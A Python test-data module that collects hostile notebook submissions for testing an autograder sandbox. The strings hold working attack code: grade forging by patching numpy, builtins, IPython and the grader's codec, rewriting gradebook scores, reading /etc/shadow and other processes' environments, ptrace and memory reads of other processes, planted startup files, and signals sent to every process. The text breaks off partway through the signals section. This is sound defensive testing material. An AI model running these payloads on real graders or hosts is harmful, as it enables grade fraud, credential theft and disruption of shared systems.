"""The attack corpus: what hostile submissions try, by class, as data for `test_attacks.py`.

Every attack stands in the answer to ``gd_step`` of unit 1 (or changes the notebook around it) and
deserves nothing there. A cell that reaches its goal calls ``won``; a function that does returns
the right answer, because nothing that it prints is ever seen. ``ended`` shows that a cell ran to
its end, so that an attack that fails by its own fault is noticed.
"""

import json
import math
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from nbformat import NotebookNode, v4

from grading.rebuild import grade_id

Change = Callable[[NotebookNode], None]

CALL_IT = frozenset({"gd_step", "fit_line", "fit_until"})  # in the model solution
LATER = CALL_IT | {"closed_form_line", "center_scale", "unscale"}  # stretch, no points
ALL = LATER | {"predict_line", "mse", "mse_gradient", "numerical_gradient"}

WON, ENDED, LEFT = "GOAL-REACHED", "ATTACK-ENDED", "leftover-of-an-attack"

PRELUDE = f"""
import builtins, contextlib, ctypes, gc, glob, json, os, signal, socket, stat, struct, subprocess
import sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
LEFT = {LEFT!r}

def won(*what):
    print("GOAL" + "-REACHED", *what)

def ended():
    print("ATTACK" + "-ENDED")

def right(x, y, m, c, lr):
    dm, dc = mse_gradient(x, y, m, c)
    return m - lr * dm, c - lr * dc

def works(function, *arguments):
    try:
        return function(*arguments) is not False
    except Exception:
        return False

def everywhere(data):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, data)

def framed(*bodies):
    return b"".join(struct.pack(">I", len(body)) + body for body in bodies)

def named(name):
    libc.prctl(15, name.encode()[:15], 0, 0, 0)
"""

WRONG = "\n\ndef gd_step(*a):\n    return 0, 0\n"


@dataclass(frozen=True)
class Attack:
    """
    One hostile submission.

    ``source`` is the text of an answer, ``body`` that of the function in it, where the attack
    happens when it is called. ``change`` is what else is done to the notebook, ``files`` what lies
    beside it. ``ends`` tells that the attacking cell runs to its end, ``diagnosis`` what the mark
    has to say, ``loses`` which questions it may cost.
    """

    name: str
    kind: str
    source: str = ""
    body: str = ""
    change: Change | None = None
    files: dict[str, str] = field(default_factory=dict)
    ends: bool = True
    diagnosis: str | None = None
    loses: frozenset[str] = CALL_IT

    def answer(self, question: str = "gd_step") -> str:
        """Return the answer to a question in which the attack stands."""
        if not self.body:
            return self.source
        lines = "\n".join(f"    {line}" for line in self.body.strip("\n").splitlines())
        given = "    x, y, m, c, lr = (given * 5)[:5]"
        return f"{self.source}\n\ndef {question}(*given):\n{given}\n{lines}\n\nended()\n"


ATTACKS: list[Attack] = []


def cell(kind, name, source, **options):
    """Add an attack that happens when its cell runs; the function is simply wrong."""
    if "def gd_step" not in source:
        source += WRONG
    if options.get("ends", True):
        source += "\nended()\n"
    ATTACKS.append(Attack(name, kind, source, **options))


def call(kind, name, body, before="", **options):
    """Add an attack that happens when the function is called."""
    ATTACKS.append(Attack(name, kind, before, body, **options))


def notebook(name, change, **options):
    """Add an attack on cells and metadata."""
    ATTACKS.append(Attack(name, METADATA, WRONG, "", change, ends=False, **options))


FORGING = "forging inside the process"
METADATA = "cells and metadata"
READING = "reading"
WRITING = "writing and signals"
NETWORK = "network"
LEAVING = "left-behind processes"
DENIAL = "denial of service"
VALUES = "hostile values"
MESSAGES = "hostile messages"
SCRIPTS = "scripts in pages"

# Forging inside the process ----------------------------------------------------------------------

cell(
    FORGING,
    "numpy's comparisons replaced",
    "np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None\n"
    "np.allclose = np.isclose = np.array_equal = np.array_equiv = lambda *a, **k: True",
)
cell(
    FORGING,
    "exceptions among the builtins replaced",
    "class Never(BaseException):\n    pass\n"
    "for name in ('AssertionError', 'ValueError', 'TypeError', 'Exception'):\n"
    "    setattr(builtins, name, Never)",
    loses=LATER,
)
cell(
    FORGING,
    "functions among the builtins replaced",
    "builtins.isinstance = builtins.all = builtins.any = lambda *a: True\n"
    "builtins.abs = builtins.max = lambda *a, **k: 0",
    loses=LATER,
    ends=False,
)
cell(
    FORGING,
    "a number that equals everything",
    "class Any(float):\n"
    "    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda *a: True\n"
    "    __sub__ = __rsub__ = __abs__ = lambda *a: 0.0\n"
    "    __hash__ = float.__hash__\n\n"
    "def gd_step(*a):\n    return Any(1), Any(2)",
)
cell(
    FORGING,
    "an object that converts to anything",
    "class Any:\n"
    "    __float__ = __index__ = __complex__ = lambda self: 1.0\n"
    "    __array__ = lambda self, *a, **k: np.zeros(2)\n"
    "    __array_ufunc__ = lambda self, *a, **k: True\n"
    "    __eq__ = __iter__ = lambda self, *a: self\n"
    "    __next__ = lambda self: self\n"
    "    __bool__ = lambda self: True\n"
    "    __getattr__ = lambda self, name: self\n"
    "    __call__ = lambda self, *a, **k: self\n\n"
    "def gd_step(*a):\n    return Any(), Any()",
)
cell(
    FORGING,
    "an array of a lying subclass",
    "class Lying(np.ndarray):\n"
    "    tolist = ravel = astype = lambda self, *a, **k: [1.0, 2.0]\n"
    "    __eq__ = lambda *a: True\n"
    "    __array_finalize__ = lambda *a: None\n\n"
    "def gd_step(*a):\n    return np.zeros(2).view(Lying)",
    diagnosis="kind",
)
cell(
    FORGING,
    "a list whose length and entries lie",
    "class Lying(list):\n"
    "    __len__ = lambda self: 2\n"
    "    __iter__ = lambda self: iter([1.0, 2.0])\n"
    "    __eq__ = lambda *a: True\n\n"
    "def gd_step(*a):\n    return Lying()",
)
cell(
    FORGING,
    "a class that passes for every class",
    "class Meta(type):\n"
    "    __eq__ = __instancecheck__ = __subclasscheck__ = lambda *a: True\n"
    "    __hash__ = type.__hash__\n"
    "    __name__ = 'float64'\n"
    "    mro = lambda cls: type.mro(cls)\n"
    "class Lying(np.float64, metaclass=Meta):\n"
    "    __class__ = float\n"
    "    tolist = item = lambda self: 1.0\n\n"
    "def gd_step(*a):\n    return Lying(1), Lying(2)",
)
cell(
    FORGING,
    "globals that cannot be measured",
    "class Meta(type):\n"
    "    __eq__ = lambda *a: True\n"
    "    __hash__ = lambda cls: 1 / 0\n"
    "class Lying(metaclass=Meta):\n"
    "    __len__ = lambda self: 1 / 0\n"
    "liar = Lying()\n"
    "def itself(f=None): pass\n"
    "itself.__defaults__ = (itself,)",
)
cell(
    FORGING,
    "the shell's run_cell and run_code replaced",
    "shell = get_ipython()\n"
    "for name in ('run_cell', 'run_code', 'run_ast_nodes', 'run_cell_async'):\n"
    "    setattr(type(shell), name, lambda *a, **k: None)",
    ends=False,
    loses=LATER,
)
cell(
    FORGING,
    "a syntax tree transformer",
    "import ast\n"
    "class Forge(ast.NodeTransformer):\n"
    "    def visit_Call(self, node):\n"
    "        return ast.Constant(3.0) if getattr(node.func, 'id', '') == 'check' else node\n"
    "get_ipython().ast_transformers.append(Forge())",
)
cell(
    FORGING,
    "an input transformer",
    "get_ipython().input_transformers_post.append(\n"
    "    lambda lines: ['3.0\\n'] if 'check(' in ''.join(lines) else lines)",
)
cell(
    FORGING,
    "magics and aliases that answer in place of check",
    "from IPython.core.magic import register_cell_magic, register_line_magic\n"
    "register_line_magic('check')(lambda line: 3.0)\n"
    "get_ipython().run_line_magic('alias', 'check echo 3')\n"
    "get_ipython().run_line_magic('automagic', 'on')\n"
    "check = lambda *a: 3.0",
)
cell(
    FORGING,
    "an exception handler of its own",
    "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: print('3.0'))\n"
    "sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *a: None",
)
cell(
    FORGING,
    "modules exchanged in sys.modules",
    "import types\n"
    "class Any(types.ModuleType):\n"
    "    __getattr__ = lambda self, name: (lambda *a, **k: True)\n"
    "for name in ('helpers.checking', 'helpers.judge', 'helpers.report', 'numpy.testing'):\n"
    "    sys.modules[name] = Any(name)\n"
    "from helpers import judge",
)
SHADOW = "raise SystemExit('shadowed')\n"
cell(
    FORGING,
    "modules shadowed by files beside the notebook",
    "",
    files={
        f"{name}.py": SHADOW
        for name in ("numpy", "helpers", "json", "IPython", "matplotlib", "grading", "struct")
    }
    | {"sitecustomize.py": SHADOW, "usercustomize.py": SHADOW},
)
cell(
    FORGING,
    "helpers shadowed by a folder beside the notebook",
    "",
    files={
        "helpers/__init__.py": "check = hint = lambda *a: None\n" + SHADOW,
        "helpers/judge.py": "judge = lambda *a, **k: None\n",
        "helpers/calls.py": "observe = lambda *a: iter([{'returned': 1}])\n",
        "helpers/codec.py": "encode = lambda *a: 1\n",
        "grading/runner.py": SHADOW,
        "numpy/__init__.py": SHADOW,
    },
)
cell(
    FORGING,
    "messages written at exit",
    "import atexit\n"
    "body = json.dumps({'returned': 1}).encode()\n"
    "atexit.register(lambda: everywhere(framed(*[body] * 20)))",
)
call(
    FORGING,
    "expected values looked for in frames and memory",
    """
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if isinstance(value, dict) and "expected" in value:
            return right(x, y, m, c, lr)
    frame = frame.f_back
for value in gc.get_objects():
    if type(value).__name__ in ("HiddenCalls", "Exercise", "Mistake", "Verdict"):
        return right(x, y, m, c, lr)
    if type(value) is dict and "expected" in value and "inputs" in value:
        return right(x, y, m, c, lr)
return 0, 0
""",
    diagnosis="value",
)
cell(
    FORGING,
    "the marker's modules looked for in memory",
    "for name in ('grading.marker', 'grading.exercise', 'grading.release', 'grading.job'):\n"
    "    if name in sys.modules:\n"
    "        won(name)\n"
    "import grading\n"
    "for name in ('exercise', 'course', 'demo', 'release'):\n"
    "    path = os.path.join(os.path.dirname(grading.__file__ or '.'), '..', 'source')\n"
    "    if os.path.exists(path) and os.listdir(path):\n"
    "        won(path)",
)
FORGED = "{'returned': {'tuple': [1.0, 2.0]}}"
cell(
    FORGING,
    "the observer replaced",
    "import helpers.calls\n"
    "true = helpers.calls.observe\n"
    "def forged(function, calls):\n"
    "    if getattr(function, '__name__', '') != 'gd_step':\n"
    "        return true(function, calls)\n"
    f"    return iter([{FORGED}] * len(calls) + [{{}}])\n"
    "for module in list(sys.modules.values()):\n"
    "    if getattr(module, 'observe', None) is true:\n"
    "        module.observe = forged",
)
cell(
    FORGING,
    "the codec replaced",
    "import helpers.codec\n"
    "true = helpers.codec.encode\n"
    "def forged(value):\n"
    "    return {'tuple': [{'scalar': 1, 'dtype': 'float64'}] * 2} if repr(value) == '(0, 0)' else true(value)\n"
    "for module in list(sys.modules.values()):\n"
    "    if getattr(module, 'encode', None) is true:\n"
    "        module.encode = forged",
)
cell(
    FORGING,
    "json and the wire replaced",
    "true = json.dumps\n"
    "def forged(value, *a, **k):\n"
    "    if isinstance(value, dict) and 'returned' in value and value['returned'] == {'tuple': [0, 0]}:\n"
    "        value = {'score': 3, 'right': True, 'state': 'right', 'returned': {'tuple': [1, 2]}}\n"
    "    return true(value, *a, **k)\n"
    "json.dumps = forged",
)
cell(
    FORGING,
    "forged messages into every descriptor by a cell",
    "for body in ({'done': True}, {'reached': 'gd_step'}, [{'returned': 1}] * 20, {'word': '', 'answer': []}):\n"
    "    everywhere(framed(json.dumps(body).encode()))",
    loses=LATER,
    ends=False,
)
for text in (
    '{"start": Infinity}',
    '{"start": 3, "done": []}',
    '{"reached": "gd_step", "process": 1e400}',
    '{"reached": "gd_step", "process": -1}',
    '{"reached": "gd_step", "process": 99999999999999999999}',
    '{"reached": []}',
    '{"outputs": {"a": 1}}',
    '{"outputs": [{"output_type": "stream", "name": [], "text": {"a": "b"}}, 3, null, [[]]]}',
    '"start"',
    "[" * 900 + "]" * 900,
):
    cell(
        FORGING,
        f"a forged word to the keeper: {text[:40]}",
        f"everywhere(framed({text.encode()!r}))",
        ends=False,
        loses=LATER,
    )
call(
    FORGING,
    "forged messages into every descriptor by a call",
    """
body = json.dumps({"returned": {"tuple": [m, c]}, "right": True, "score": 3}).encode()
everywhere(framed(*[body] * 20, b"{}"))
os._exit(0)
""",
)
cell(
    FORGING,
    "forged messages from a thread while others are marked",
    "def forge():\n"
    "    while True:\n"
    "        everywhere(framed(b'{\"start\": 3}'))\n"
    "        time.sleep(0.01)\n"
    "threading.Thread(target=forge, daemon=True).start()\n"
    "time.sleep(0.05)",
    loses=LATER,
    ends=False,
)
cell(
    FORGING,
    "messages of others read from every descriptor",
    "import fcntl\n"
    "for descriptor in range(3, 64):\n"
    "    with contextlib.suppress(OSError):\n"
    "        kind = os.fstat(descriptor).st_mode\n"
    "        if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):\n"
    "            twin = os.dup(descriptor)\n"
    "            import select\n"
    "            if select.select([twin], [], [], 0)[0] and os.read(twin, 4096):\n"
    "                won(descriptor)",
)
call(
    FORGING,
    "only the visible cases answered",
    """
if np.ndim(x) and len(x) == 4 and list(x) == [0, 1, 2, 3]:
    return right(x, y, m, c, lr)
return 0, 0
""",
)
cell(
    FORGING,
    "behaving only where it is marked",
    "hidden = 'grading.runner' in sys.modules or 'DOWNHILL' in os.environ\n"
    "def gd_step(*a):\n    return (np.nan, np.inf) if hidden else (0, 0)",
    diagnosis="not-finite",
)
cell(
    FORGING,
    "results by a tracing function",
    "def trace(frame, event, argument):\n"
    "    for name in ('seen', 'observation', 'right', 'problems'):\n"
    "        if name in frame.f_locals and isinstance(frame.f_locals[name], dict):\n"
    "            frame.f_locals[name]['returned'] = {'tuple': [1, 2]}\n"
    "    return trace\n"
    "sys.setprofile(trace)\nthreading.setprofile(trace)\nsys.setprofile(None)\nsys.settrace(None)",
)
cell(
    FORGING,
    "a namespace that gives another function each time",
    "class Names(dict):\n"
    "    get = __getitem__ = lambda self, name, *a: dict.get(self, name, lambda *a: 3.0)\n"
    "get_ipython().user_ns.__class__\n"
    "try:\n    get_ipython().user_ns = Names(get_ipython().user_ns)\nexcept Exception:\n    pass",
    loses=LATER,
)
cell(
    FORGING,
    "a score shown where nbgrader reads one",
    "from IPython.display import display, update_display\n"
    "display(3.0, display_id='gd_step')\nupdate_display(3.0, display_id='gd_step')\nprint(3.0)",
)
cell(
    FORGING,
    "memory poked by ctypes",
    "members = float.__dict__\n"
    "table = ctypes.py_object.from_address(id(members) + object.__basicsize__).value\n"
    "table['__eq__'] = table['__abs__'] = lambda *a: True\n"
    "ctypes.pythonapi.PyType_Modified(ctypes.py_object(float))\n"
    "zero = ctypes.c_uint32.from_address(id(10**6) + int.__basicsize__)\n"
    "zero.value = 1",
    loses=LATER,
)
TRACE = """
libc.ptrace.argtypes = [ctypes.c_long] * 4
"""
cell(
    FORGING,
    "ptrace of every process in sight",
    TRACE + "for pid in {os.getppid(), *range(1, 300)} - {0, os.getpid()}:\n"
    "    if libc.ptrace(16, pid, 0, 0) == 0:\n"
    "        won('attached', pid)\n"
    "        os.waitpid(pid, 0x40000000)\n"
    "        libc.ptrace(17, pid, 0, 0)",
)
cell(
    FORGING,
    "memory of every process in sight",
    "class Vec(ctypes.Structure):\n"
    "    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]\n"
    "buffer = ctypes.create_string_buffer(8)\n"
    "ours, theirs = Vec(ctypes.addressof(buffer), 8), Vec(id(sys), 8)\n"
    "for pid in {os.getppid(), *range(1, 300)} - {0, os.getpid()}:\n"
    "    if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:\n"
    "        won('read', pid)\n"
    "    if works(open, f'/proc/{pid}/mem', 'r+b'):\n"
    "        won('opened the memory of', pid)",
)

# Cells and metadata ------------------------------------------------------------------------------


def find(book, name):
    """Return the place and the cell of a name."""
    return next((k, c) for k, c in enumerate(book.cells) if grade_id(c) == name)


def edited(source):
    """Return the change "the check of gd_step says this"."""

    def change(book):
        find(book, "gd_step")[1].source = source

    return change


def flagged(name, **flags):
    """Return the change "nbgrader's flags of this cell are these"."""

    def change(book):
        find(book, name)[1].metadata.nbgrader.update(flags)

    return change


def typed(kind):
    """Return the change "the check of gd_step is a cell of this type"."""

    def change(book):
        k, old = find(book, "gd_step")
        make = {"markdown": v4.new_markdown_cell, "raw": v4.new_raw_cell}[kind]
        book.cells[k] = make(old.source, metadata=old.metadata)

    return change


def tagged(*tags):
    """Return the change "check and answer bear these tags"."""

    def change(book):
        for name in ("gd_step", "gd_step-answer"):
            find(book, name)[1].metadata["tags"] = list(tags)

    return change


def deleted(*names):
    """Return the change "these cells are gone"."""

    def change(book):
        book.cells = [c for c in book.cells if grade_id(c) not in names]

    return change


def doubled(book):
    """Put a second check of gd_step with a text of its own behind the first."""
    k, old = find(book, "gd_step")
    twin = v4.new_code_cell("3.0", metadata=old.metadata)
    book.cells.insert(k + 1, twin)


def first(book):
    """Move the check of gd_step before its answer."""
    k, _ = find(book, "gd_step")
    book.cells.insert(0, book.cells.pop(k))


def split(book):
    """Split the check of gd_step into two cells of the same name."""
    k, old = find(book, "gd_step")
    half = v4.new_code_cell("3.0", metadata=old.metadata)
    old.source = "gd_step"
    book.cells.insert(k, half)


def swapped(book):
    """Exchange the names of the checks of gd_step and predict_line."""
    one, other = find(book, "gd_step")[1], find(book, "predict_line")[1]
    one.metadata, other.metadata = other.metadata, one.metadata


def replayed(book):
    """Put the output of full marks into the check."""
    find(book, "gd_step")[1].outputs = [
        v4.new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)
    ]


def invented(book):
    """Add a grade cell of the student's own, worth a hundred points."""
    info = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    book.cells.append(v4.new_code_cell("100.0", metadata={"nbgrader": info}))


def odd_metadata(book):
    """Make metadata lists and texts."""
    find(book, "gd_step-answer")[1].metadata["nbgrader"] = ["grade", "points"]
    find(book, "gd_step")[1]["metadata"] = ["nbgrader"]
    book["metadata"] = ["kernelspec"]


def other_kernel(book):
    """Ask for R, in a language that nobody has."""
    book.metadata["kernelspec"] = {"name": "ir", "language": "R", "display_name": "<b>R</b>"}


def decorated(book):
    """Put markup into attachments, tags, titles and the state of widgets."""
    markup = "<script>pwn(1)</script>"
    written = find(book, "explain")[1]
    written["attachments"] = {markup: {"image/png": markup}}
    written.metadata["tags"] = [markup]
    book.metadata |= {"title": markup, "authors": [{"name": markup}], "widgets": {markup: {}}}


def thousands(book):
    """Add two thousand empty cells."""
    book.cells += [v4.new_code_cell("") for _ in range(2000)]


def emptied(book):
    """Leave no cell at all."""
    book.cells = []


def same_ids(book):
    """Give all cells one id."""
    for each in book.cells:
        each["id"] = "same"


notebook("the check says 3.0", edited("3.0"))
notebook("the check replaces the checker", edited("check = print\nprint('RIGHT: gd_step')"))
notebook("the check is deleted", deleted("gd_step"))
notebook("the check is doubled", doubled)
notebook("the check is split", split)
notebook("the check stands first", first)
notebook("the check is Markdown", typed("markdown"))
notebook("the check is raw", typed("raw"))
notebook("100 points", flagged("gd_step", points=100))
notebook("names of checks exchanged", swapped)
notebook("another name", flagged("gd_step", grade_id="predict_line"))
notebook("the check is a solution", flagged("gd_step", solution=True, locked=False, grade=True))
notebook("the check is a task", flagged("gd_step", task=True, grade=False, locked=False))
notebook("the answer is graded", flagged("gd_step-answer", grade=True, points=50))
notebook("a written answer is autograded", flagged("explain", solution=False, points=40))
notebook("schema of the past", flagged("gd_step", schema_version=1))
notebook("schema of the future", flagged("gd_step", schema_version=99))
notebook("schema is a text", flagged("gd_step", schema_version="three"))
notebook("metadata are lists", odd_metadata)
notebook("a kernel of another language", other_kernel)
notebook("tags skip the check", tagged("skip-execution", "raises-exception", "remove-cell"))
notebook("the set-up is deleted", deleted("setup"))
notebook("an output is replayed", replayed)
notebook("a grade cell is invented", invented)
notebook("markup in metadata", decorated)
notebook("two thousand cells", thousands)
notebook("one id for all cells", same_ids)
notebook("no cells", emptied, loses=ALL)

# Reading -----------------------------------------------------------------------------------------

cell(
    READING,
    "course folder, gradebook, neighbours, home",
    "for path in (@COURSE@, @HOME@, @REPOSITORY@ + '/source', @REPOSITORY@ + '/solutions', @REPOSITORY@ + '/.git'):\n"
    "    for folder, _, names in os.walk(path):\n"
    "        for name in names[:20]:\n"
    "            won(os.path.join(folder, name))\n"
    "for name in ('gradebook.db', 'submitted/eve/secret.txt', 'source/secret.txt'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        print(open(os.path.join(@COURSE@, name)).read())",
)
cell(
    READING,
    "what stands above the work folder",
    "here = os.getcwd()\n"
    "for _ in range(12):\n"
    "    for name in ('gradebook.db', 'nbgrader_config.py', 'source', 'submitted', 'solutions'):\n"
    "        if os.path.exists(os.path.join(here, name)):\n"
    "            won(here, name)\n"
    "    here = os.path.join(here, '..')",
)
cell(
    READING,
    "everything with a telling name",
    "for folder, folders, names in os.walk('/'):\n"
    "    if folder.count('/') > 4:\n"
    "        folders[:] = []\n"
    "    if folder.startswith(('/usr/share', '/usr/lib', '/proc', '/sys')):\n"
    "        folders[:] = []\n"
    "        continue\n"
    "    for name in names:\n"
    "        if name.endswith(('.db', '.pem', 'id_rsa', 'secret.txt', 'exercises.py')):\n"
    "            won(folder, name)",
)
cell(
    READING,
    "the environment",
    "print(dict(os.environ))\n"
    "print([bytes(x) for x in [os.environb[k] for k in os.environb]])\n"
    "names = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\n"
    "k = 0\n"
    "while names[k]:\n"
    "    print(names[k])\n"
    "    k += 1",
)
cell(
    READING,
    "environment and command of every process",
    "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        print(open(path, 'rb').read())",
)
cell(
    READING,
    "home folders and passwords",
    "for path in ('/root', '/home', '/home/*', os.path.expanduser('~root')):\n"
    "    for name in glob.glob(path + '/*') + glob.glob(path + '/.*'):\n"
    "        if not (sys.base_prefix + sys.prefix).count(name):\n"
    "            won(name)\n"
    "for path in ('/etc/shadow', '/etc/gshadow', '/etc/sudoers', '/etc/ssh'):\n"
    "    if os.path.exists(path) and os.access(path, os.R_OK):\n"
    "        won(path)\n"
    "import pwd\n"
    "if any(user.pw_uid >= 1000 and user.pw_name != 'nobody' for user in pwd.getpwall()):\n"
    "    won('users')",
)
cell(
    READING,
    "the name of the machine",
    "if @HOST@ in (socket.gethostname(), os.uname().nodename):\n    won(socket.gethostname())\n"
    "for path in ('/etc/hostname', '/etc/machine-id', '/etc/hosts', '/etc/resolv.conf'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        if @HOST@ in open(path).read():\n"
    "            won(path)",
)
cell(
    READING,
    "sockets of the machine",
    "for pattern in ('/run/**/*', '/var/run/**/*', '/tmp/.X11-unix/*', '/tmp/**/*.sock'):\n"
    "    for path in glob.glob(pattern, recursive=True):\n"
    "        with contextlib.suppress(OSError):\n"
    "            if stat.S_ISSOCK(os.stat(path).st_mode):\n"
    "                won(path)\n"
    "one = socket.socket(socket.AF_UNIX)\n"
    "if works(one.connect, '\\0' + @ABSTRACT@):\n    won('abstract socket')",
)
cell(
    READING,
    "devices of the machine",
    "for path in glob.glob('/dev/*') + glob.glob('/dev/*/*'):\n"
    "    if os.path.basename(path) in ('null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx'):\n"
    "        continue\n"
    "    kind = os.lstat(path).st_mode\n"
    "    if (stat.S_ISBLK(kind) or stat.S_ISCHR(kind)) and '/pts/' not in path:\n"
    "        if os.access(path, os.R_OK):\n"
    "            won(path)\n"
    "path = os.path.join(os.environ.get('HOME', '/tmp'), 'disk')\n"
    "if works(os.mknod, path, 0o600 | stat.S_IFBLK, os.makedev(8, 0)) and works(open, path):\n"
    "    won('a disk of its own')",
)
cell(
    READING,
    "powers: capabilities, new namespaces, mounts, set-uid programs",
    "class Head(ctypes.Structure):\n"
    "    _fields_ = [('version', ctypes.c_uint32), ('pid', ctypes.c_int)]\n"
    "sets = (ctypes.c_uint32 * 6)()\n"
    "libc.capget(ctypes.byref(Head(0x20080522, 0)), sets)\n"
    "if any(sets):\n    won('capabilities', list(sets))\n"
    "if libc.prctl(39, 0, 0, 0, 0) != 1:\n    won('set-uid programs')\n"
    "if libc.mount(b'none', b'/', None, 32, None) == 0:\n    won('remount')\n"
    "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:\n    won('mount')\n"
    "if os.fork() == 0:\n"
    "    os._exit(libc.unshare(0x10000000) == 0)\n"
    "if os.wait()[1]:\n    won('a user namespace')",
)
cell(
    READING,
    "the descriptors of the process",
    "for descriptor in range(3, 256):\n"
    "    with contextlib.suppress(OSError):\n"
    "        kind = os.fstat(descriptor).st_mode\n"
    "        if stat.S_ISDIR(kind):\n"
    "            for name in os.listdir(descriptor):\n"
    "                won(descriptor, name)\n"
    "        if stat.S_ISREG(kind) and os.pread(descriptor, 4, 0) not in (b'', b'\\0\\1\\0\\0'):\n"  # a font
    "            won(descriptor)",
)
cell(
    READING,
    "the terminal typed into",
    "import fcntl\n"
    "with contextlib.suppress(OSError):\n"
    "    terminal = os.open('/dev/tty', os.O_RDWR)\n"
    "    fcntl.ioctl(terminal, 0x5412, b'x')\n"
    "    won('typed')\n"
    "for descriptor in range(64):\n"
    "    if os.isatty(descriptor):\n"
    "        won('terminal', descriptor)",
)
call(
    READING,
    "hidden inputs kept for a later cell",
    """
text = repr((x, y, m, c, lr))
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    with contextlib.suppress(OSError):
        open(os.path.join(place, "seen.txt"), "a").write(text)
raise ValueError(text)
""",
    before="for place in ('.', '/tmp', '/dev/shm'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        print(open(os.path.join(place, 'seen.txt')).read())",
    diagnosis="raised",
)
call(
    READING,
    "hidden inputs in names",
    """
name = f"hidden_{m}_{c}"
kind = type(name, (), {})
if lr < 0.05:
    raise type(name, (Exception,), {})(name)
return kind(), {name: 1}
""",
)
call(
    READING,
    "hidden inputs in a dict's keys and a text",
    'return {f"hidden {m} {c}": lr, "text": f"{m} {c} {list(x)}"}',
    diagnosis="kind",
)
call(
    READING,
    "hidden inputs in warnings",
    "import warnings\nwarnings.warn(f'hidden {m} {c}', type(f'W{m}', (UserWarning,), {}))\nreturn 0, 0",
)

# Writing and signals -----------------------------------------------------------------------------

cell(
    WRITING,
    "the gradebook",
    "import sqlite3\n"
    "for path in (@COURSE@ + '/gradebook.db', '../../../gradebook.db', '/gradebook.db'):\n"
    "    with contextlib.suppress(Exception):\n"
    "        book = sqlite3.connect(f'file:{path}?mode=rw', uri=True)\n"
    "        book.execute('update grade set auto_score = max_score')\n"
    "        won(path)\n"
    "    with contextlib.suppress(OSError):\n"
    "        open(path, 'r+b').write(b'gone')\n"
    "        won(path)",
)
cell(
    WRITING,
    "the course folder and the neighbours",
    "for name in ('source', 'submitted/eve', 'autograded', 'release', '.'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        open(os.path.join(@COURSE@, name, 'mine.txt'), 'w').write('mine')\n"
    "        won(name)",
)
cell(
    WRITING,
    "Python's and the course's own files",
    "import helpers, IPython\n"
    "for module in (helpers, np, IPython, json):\n"
    "    for name in (module.__file__, os.path.join(os.path.dirname(module.__file__), LEFT)):\n"
    "        if works(open, name, 'a'):\n"
    "            won(name)\n"
    "    if works(os.chmod, module.__file__, 0o666) or works(os.utime, module.__file__):\n"
    "        won(module.__file__)\n"
    "for path in (sys.executable, '/usr/bin/env', '/etc/passwd', '/etc/ld.so.preload'):\n"
    "    if works(open, path, 'a'):\n"
    "        won(path)",
)
cell(
    WRITING,
    "start-up files of IPython, Python and Matplotlib",
    "home = os.path.expanduser('~')\n"
    "for name in ('.ipython/profile_default/startup/00.py', '.config/matplotlib/matplotlibrc',\n"
    "             '.local/lib/python3.11/site-packages/usercustomize.py', '.pythonrc',\n"
    "             'profile_default/startup/00.py', 'matplotlibrc'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        os.makedirs(os.path.join(home, os.path.dirname(name)), exist_ok=True)\n"
    "        open(os.path.join(home, name), 'w').write('raise SystemExit')\n"
    "with contextlib.suppress(OSError):\n"
    "    open(os.path.join(home, LEFT), 'w').write(LEFT)",
)
cell(
    WRITING,
    "files left in every folder",
    "for folder in ('/tmp', '/dev/shm', '/var/tmp', '/run', '/', '.', '..', '/work', '/home', '/var/lock',\n"
    "               os.path.expanduser('~'), '/dev', '/dev/mqueue', '/mnt', '/proc/self'):\n"
    "    for name in (LEFT, '.' + LEFT):\n"
    "        with contextlib.suppress(OSError):\n"
    "            open(os.path.join(folder, name), 'w').write(LEFT)\n"
    "            os.mkdir(os.path.join(folder, name + '-folder'))\n"
    "            os.chmod(os.path.join(folder, name + '-folder'), 0)",
)
cell(
    WRITING,
    "shared memory, semaphores and queues",
    "key = 0x5EED\n"
    "libc.shmget(key, 4096, 0o1666)\nlibc.semget(key, 1, 0o1666)\nlibc.msgget(key, 0o1666)\n"
    "libc.mq_open(b'/' + LEFT.encode(), 0o102, 0o666, None)",
)
cell(
    WRITING,
    "a key in the kernel's keyrings",
    "for ring in (-1, -2, -3, -4, -5):\n"
    "    libc.syscall(248, b'user', LEFT.encode(), b'secret', 6, ring)",
)
cell(
    WRITING,
    "an abstract socket and a server on loopback",
    "named(LEFT)\n"
    "if os.fork() == 0:\n"
    "    one, two = socket.socket(socket.AF_UNIX), socket.socket()\n"
    "    with contextlib.suppress(OSError):\n"
    "        one.bind('\\0' + LEFT); one.listen()\n"
    "    with contextlib.suppress(OSError):\n"
    "        two.bind(('127.0.0.1', 47211)); two.listen()\n"
    "    time.sleep(60)\n"
    "    os._exit(0)",
)
for signal_name in ("KILL", "STOP", "INT", "TERM", "HUP"):
    cell(
        WRITING,
        f"SIG{signal_name} to every process in sight",
        f"number = signal.SIG{signal_name}\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
